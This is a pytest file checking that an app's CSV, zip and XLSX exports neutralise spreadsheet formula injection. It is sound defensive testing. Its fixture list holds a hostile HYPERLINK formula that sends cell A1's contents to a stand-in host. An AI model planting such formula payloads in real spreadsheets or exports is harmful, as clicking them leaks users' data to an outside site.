"""Every spreadsheet and CSV the app writes neutralises formula-like cells (=, +, -, @, tab, carriage return): one
rule (sq_layout.cells), through the CSV, zip and XLSX writers."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pandas as pd
import pytest

from sq_layout.analysis.queries import Selection
from sq_layout.cells import neutralise
from sq_layout.export.dataexport import csv_zip, export_bytes, neutralise_cell, xlsx
from sq_layout.plan.dataset import Dataset

EVIL = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "plain", "-"]


def test_formula_cells_are_neutralised() -> None:
    df = pd.DataFrame({"name": EVIL, "n": range(len(EVIL))})
    out = neutralise(df)
    assert list(out["name"][:5]) == ["'" + v for v in EVIL[:5]] and out["name"][5] == "plain"
    assert list(out["n"]) == list(range(len(EVIL)))  # numbers stay numbers


def test_one_cell_rule_covers_tab_and_carriage_return() -> None:
    evil = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]
    assert [neutralise_cell(v) for v in evil] == ["'" + v for v in evil]
    assert [neutralise_cell(v) for v in ("plain", "a=b", "", 5, -1.5, None)] == ["plain", "a=b", "", 5, -1.5, None]


@pytest.fixture
def evil_ds(ds: Dataset) -> Dataset:
    from dataclasses import replace

    areas = ds.areas.copy()
    areas.loc[areas["area_id"] == "sihong", "name"] = EVIL[0]
    return replace(ds, areas=areas)


def test_csv_zip_has_no_live_formula(evil_ds: Dataset) -> None:
    z = zipfile.ZipFile(io.BytesIO(export_bytes("zip", evil_ds, Selection(), None, "zh", whole=True)))
    text = z.read("地区.csv").decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text


def test_single_csv_has_no_live_formula(evil_ds: Dataset) -> None:
    raw = export_bytes("csv", evil_ds, Selection(), None, "zh", whole=False)
    frame = pd.read_csv(io.BytesIO(raw), encoding="utf-8-sig")
    assert frame["名称"].str.startswith("'=HYPERLINK").any()


def test_xlsx_has_no_formula_cell(evil_ds: Dataset) -> None:
    wb = openpyxl.load_workbook(io.BytesIO(export_bytes("xlsx", evil_ds, Selection(), None, "zh", whole=True)))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(str(c.value).startswith("'=HYPERLINK") for c in cells)
    # the audit workbook goes through the same writer
    wb2 = openpyxl.load_workbook(io.BytesIO(xlsx({"t": pd.DataFrame({"x": ["=1+1"]})}, "zh")))
    assert wb2["t"]["A2"].data_type != "f" and wb2["t"]["A2"].value == "'=1+1"
    assert csv_zip({"t": pd.DataFrame({"x": ["@x"]})}, "zh")
